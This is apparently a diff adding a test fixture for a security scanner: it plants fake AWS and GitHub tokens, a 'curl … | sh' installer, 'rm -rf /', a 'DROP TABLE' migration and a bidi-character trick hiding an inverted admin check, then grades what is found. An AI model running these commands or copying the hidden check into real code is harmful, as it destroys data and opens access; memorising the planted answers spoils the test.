@@ -1,0 +1,99 @@
+"""A repository with things planted that must be found, and things beside them that must not.
+
+Nothing in here is a secret or runs: tokens are put together from pieces, commands are only read.
+"""
+
+import subprocess
+from dataclasses import dataclass
+from pathlib import Path
+
+AWS_KEY = "AKIA" + "Q3ZT7RX2MB5LWPNE"
+GITHUB_TOKEN = "ghp_" + "b7Kq2Xn9TfVw4Rz1Ys6Lm3Jc8Hd5Ga0Pe2Uo"
+
+
+@dataclass(frozen=True, slots=True, kw_only=True)
+class Planted:
+    """What must be found where."""
+
+    path: str
+    line: int
+    #: The rule's id begins with this.
+    rule: str
+
+
+BEFORE = {
+    "app.py": "def greet(name: str) -> str:\n    return f'hello {name}'\n",
+    "old.sh": "#!/bin/sh\nrm -rf /\n",
+    "README.md": "# A shop\n\nIt sells things.\n",
+}
+AFTER = {
+    "app.py": (
+        "import os\n\n\ndef greet(name: str) -> str:\n    return f'hello {name}'\n\n\n"
+        f"KEY = '{AWS_KEY}'\nos.environ['GH_TOKEN'] = '{GITHUB_TOKEN}'\n"
+    ),
+    "old.sh": "#!/bin/sh\nrm -rf /\necho done\n",
+    "install.sh": "#!/bin/sh\nset -eu\ncurl -fsSL https://get.example.org/install | sh\n",
+    "migrations/002.sql": "ALTER TABLE orders ADD COLUMN note text;\nDROP TABLE customers;\n",
+    "access.py": (
+        "def may_delete(level: str) -> bool:\n"
+        "    if level != 'user\u202e \u2066# only admins\u2069 \u2066':\n"
+        "        return True\n"
+        "    return False\n"
+    ),
+    "clean.py": "def add(a: int, b: int) -> int:\n    return a + b\n",
+    "notes.md": "Never run `rm -rf /` or `curl … | sh` here.\n",
+}
+MUST = (
+    Planted(path="app.py", line=8, rule="security.secret"),
+    Planted(path="app.py", line=9, rule="security.secret"),
+    Planted(path="install.sh", line=3, rule="security.remote-code"),
+    Planted(path="migrations/002.sql", line=2, rule="security."),
+    Planted(path="access.py", line=2, rule="injection."),
+)
+#: No finding that stops the work may lie in these, or on lines this work does not change.
+MUST_NOT = ("clean.py", "notes.md", "old.sh", "README.md")
+
+
+def plant(folder: Path) -> None:
+    """Make the repository: one commit, and the rest not committed yet."""
+    folder.mkdir(parents=True)
+    _git(folder, "init", "-q")
+    _write(folder, BEFORE)
+    _git(folder, "add", ".")
+    _git(folder, "-c", "user.name=t", "-c", "user.email=t@example.org", "commit", "-q", "-m", "A shop")
+    _write(folder, AFTER)
+
+
+def clean(folder: Path) -> None:
+    """The control: the same repository with an ordinary change."""
+    folder.mkdir(parents=True)
+    _git(folder, "init", "-q")
+    _write(folder, BEFORE)
+    _git(folder, "add", ".")
+    _git(folder, "-c", "user.name=t", "-c", "user.email=t@example.org", "commit", "-q", "-m", "A shop")
+    _write(folder, {"clean.py": AFTER["clean.py"], "notes.md": AFTER["notes.md"]})
+
+
+def _write(folder: Path, files: dict[str, str]) -> None:
+    for name, text in files.items():
+        path = folder / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text, encoding="utf-8")
+
+
+def _git(folder: Path, *words: str) -> None:
+    subprocess.run(("git", "-C", str(folder), *words), check=True)  # noqa: S607 - from the PATH, as people do
+
+
+def problems(found: list[dict[str, object]], said: str) -> list[str]:
+    """What is wrong with what was found: something planted was missed, or something clean was stopped."""
+    blocking = [one for one in found if one["blocking"]]
+    places = [(str(one["path"]), one["line"], str(one["rule"])) for one in blocking]
+    missed = [
+        f"nothing of {one.rule} at {one.path}:{one.line}"
+        for one in MUST
+        if not any((path, line) == (one.path, one.line) and rule.startswith(one.rule) for path, line, rule in places)
+    ]
+    wrong = [f"{rule} stops {path}:{line}" for path, line, rule in places if path in MUST_NOT]
+    leaked = [f"a secret is shown: {one[:4]}…" for one in (AWS_KEY, GITHUB_TOKEN) if one in said]
+    return missed + wrong + leaked
